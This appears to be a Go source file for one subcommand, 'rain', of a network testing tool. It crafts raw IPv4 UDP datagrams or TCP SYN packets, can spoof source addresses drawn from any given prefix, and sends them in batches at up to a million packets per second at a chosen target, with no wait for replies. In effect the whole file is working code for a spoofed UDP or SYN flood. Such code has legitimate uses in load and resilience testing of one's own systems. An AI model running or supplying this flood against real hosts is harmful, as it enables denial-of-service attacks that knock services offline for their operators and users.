package main

import (
	"bufio"
	"context"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"flag"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"os"
	"time"

	"golang.org/x/net/ipv4"
)

// rainResult says what was sent.
type rainResult struct {
	Sent    uint64  `json:"sent"`
	Bytes   uint64  `json:"bytes"` // behind the headers
	Refused uint64  `json:"refused"`
	Seconds float64 `json:"seconds"`
}

func (r rainResult) String() string {
	return fmt.Sprintf("sent %d datagrams in %.2f s, %.0f per second", r.Sent, r.Seconds, float64(r.Sent)/r.Seconds)
}

// How rain is made: so many packets are ready before it begins, and so many leave with one system call.
const (
	rainDrops = 1024
	rainBatch = 64
)

// rain sends UDP, or openings of TCP connections, from nowhere as an attacker does: nobody waits for answers. It ends after its
// time, or when told to.
func rain(ctx context.Context, fs *flag.FlagSet, args []string) (fmt.Stringer, error) {
	rate := fs.Int("rate", 50_000, "datagrams per second")
	length := fs.Duration("for", time.Second, "how long")
	size := fs.Int("s", 0, "payload bytes of random drops; 0: from 1 to 1400")
	first := fs.String("first", "", "what random drops begin with, in hex")
	file := fs.String("file", "", "a file with one payload a line, in hex, to send instead of random drops")
	from := fs.String("from", "", "prefix to take a source address out of for each drop; empty: our own")
	syn := fs.Bool("syn", false, "open TCP connections, again and again, instead of sending UDP")
	seed := fs.Uint64("seed", 1, "of what is random")
	if err := parseFlags(fs, args, 1); err != nil {
		return nil, err
	}
	to, err := netip.ParseAddrPort(fs.Arg(0))
	if err != nil || !to.Addr().Is4() {
		return nil, usageError("want an IPv4 address and a port")
	}
	if *rate < 1 || *rate > 1_000_000 {
		return nil, usageError("rate must be between 1 and 1,000,000")
	}
	random := rand.New(rand.NewPCG(*seed, 0))
	payloads, err := drops(random, *file, *first, *size)
	if err != nil {
		return nil, err
	}
	sources, err := rainSources(random, *from, to)
	if err != nil {
		return nil, err
	}
	proto, headers, packet := "udp", ipv4.HeaderLen+udpHeader, udpPacket
	if *syn {
		proto, headers = "tcp", ipv4.HeaderLen+synHeader
		packet = func(src, dst netip.AddrPort, _ []byte) []byte { return synPacket(src, dst, random.Uint32()) }
	}
	conn, err := net.ListenIP("ip4:"+proto, nil)
	if err != nil {
		return nil, fmt.Errorf("open raw socket: %w", err)
	}
	defer conn.Close()
	raw, err := ipv4.NewRawConn(conn)
	if err != nil {
		return nil, err
	}
	messages := make([]ipv4.Message, max(rainDrops, len(payloads)))
	for i := range messages {
		b := packet(sources(), to, payloads[i%len(payloads)])
		messages[i] = ipv4.Message{Buffers: [][]byte{b}, Addr: &net.IPAddr{IP: to.Addr().AsSlice()}}
	}
	return shower(ctx, raw, messages, headers, *rate, *length)
}

// shower sends the packets over and over. What the machine cannot send in time is not made up for.
func shower(ctx context.Context, raw *ipv4.RawConn, messages []ipv4.Message, headers, rate int, length time.Duration) (r rainResult, err error) {
	begin := time.Now()
	defer func() { r.Seconds = time.Since(begin).Seconds() }()
	pause := time.Second * rainBatch / time.Duration(rate)
	next := begin
	for at := 0; ctx.Err() == nil && time.Since(begin) < length; at = (at + rainBatch) % len(messages) {
		batch := messages[at:min(at+rainBatch, len(messages))]
		n, err := raw.WriteBatch(batch, 0)
		if err != nil && r.Sent == 0 && r.Refused > rainDrops {
			return r, fmt.Errorf("send: %w", err)
		}
		for _, m := range batch[:max(n, 0)] {
			r.Sent++
			r.Bytes += uint64(len(m.Buffers[0]) - headers)
		}
		r.Refused += uint64(len(batch) - max(n, 0))
		next = next.Add(pause)
		if wait := time.Until(next); wait > 0 {
			time.Sleep(wait)
		} else if wait < -10*pause {
			next = time.Now()
		}
	}
	return r, nil
}

// drops makes the payloads: those of the file, else random ones.
func drops(random *rand.Rand, file, first string, size int) (all [][]byte, err error) {
	if file != "" {
		f, err := os.Open(file)
		if err != nil {
			return nil, err
		}
		defer f.Close() //nolint:errcheck // it was only read
		for lines := bufio.NewScanner(f); lines.Scan(); {
			b, err := hex.DecodeString(lines.Text())
			if err != nil {
				return nil, fmt.Errorf("read %s: %w", file, err)
			}
			all = append(all, b)
		}
		if len(all) == 0 {
			return nil, errors.New("the file is empty")
		}
		return all, nil
	}
	head, err := hex.DecodeString(first)
	if err != nil || size < 0 || size > 1472 {
		return nil, usageError("want -first in hex and -s of at most 1472")
	}
	for range rainDrops {
		n := size
		if n == 0 {
			n = 1 + random.IntN(1400)
		}
		b := make([]byte, max(n, len(head)))
		for i := range b {
			b[i] = byte(random.Uint32())
		}
		copy(b, head)
		all = append(all, b)
	}
	return all, nil
}

// rainSources makes source addresses: out of the prefix, else the one that this machine would use.
func rainSources(random *rand.Rand, from string, to netip.AddrPort) (func() netip.AddrPort, error) {
	port := func() uint16 { return uint16(1024 + random.IntN(60_000)) }
	if from == "" {
		c, err := net.DialUDP("udp4", nil, net.UDPAddrFromAddrPort(to))
		if err != nil {
			return nil, err
		}
		own := c.LocalAddr().(*net.UDPAddr).AddrPort().Addr()
		return func() netip.AddrPort { return netip.AddrPortFrom(own, port()) }, c.Close()
	}
	p, err := netip.ParsePrefix(from)
	if err != nil || !p.Addr().Is4() {
		return nil, usageError("want an IPv4 prefix as -from")
	}
	base := p.Masked().Addr().As4()
	return func() netip.AddrPort {
		host := random.Uint32() & (1<<(32-p.Bits()) - 1)
		var a [4]byte
		binary.BigEndian.PutUint32(a[:], binary.BigEndian.Uint32(base[:])|host)
		return netip.AddrPortFrom(netip.AddrFrom4(a), port())
	}, nil
}

// Sizes of headers behind that of IP; a SYN says how large segments may be.
const (
	udpHeader = 8
	synHeader = 24
)

// udpPacket is a whole IP packet; the kernel fills in the checksum of the IP header, and UDP needs none over IPv4.
func udpPacket(src, dst netip.AddrPort, payload []byte) []byte {
	const protocol = 17
	b := ipHeader(src, dst, protocol, udpHeader+len(payload))
	b = binary.BigEndian.AppendUint16(b, src.Port())
	b = binary.BigEndian.AppendUint16(b, dst.Port())
	b = binary.BigEndian.AppendUint16(b, uint16(udpHeader+len(payload)))
	return append(append(b, 0, 0), payload...)
}

// synPacket is a whole IP packet that opens a TCP connection.
func synPacket(src, dst netip.AddrPort, seq uint32) []byte {
	const protocol, flagSYN, window = 6, 2, 64240
	b := ipHeader(src, dst, protocol, synHeader)
	b = binary.BigEndian.AppendUint16(b, src.Port())
	b = binary.BigEndian.AppendUint16(b, dst.Port())
	b = binary.BigEndian.AppendUint32(b, seq)
	b = append(b, 0, 0, 0, 0, synHeader/4<<4, flagSYN)
	b = binary.BigEndian.AppendUint16(b, window)
	b = append(b, 0, 0, 0, 0, 2, 4, 1460>>8, 1460&0xff)
	sum := uint32(protocol + synHeader)
	for at := 12; at < len(b); at += 2 { // both addresses, and all that follows
		sum += uint32(binary.BigEndian.Uint16(b[at:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	binary.BigEndian.PutUint16(b[ipv4.HeaderLen+16:], ^uint16(sum))
	return b
}

func ipHeader(src, dst netip.AddrPort, protocol byte, length int) []byte {
	const ttl = 64
	b := make([]byte, 0, ipv4.HeaderLen+length)
	b = binary.BigEndian.AppendUint16(append(b, 0x45, 0), uint16(ipv4.HeaderLen+length))
	b = append(b, 0, 0, 0, 0, ttl, protocol, 0, 0)
	return append(append(b, src.Addr().AsSlice()...), dst.Addr().AsSlice()...)
}
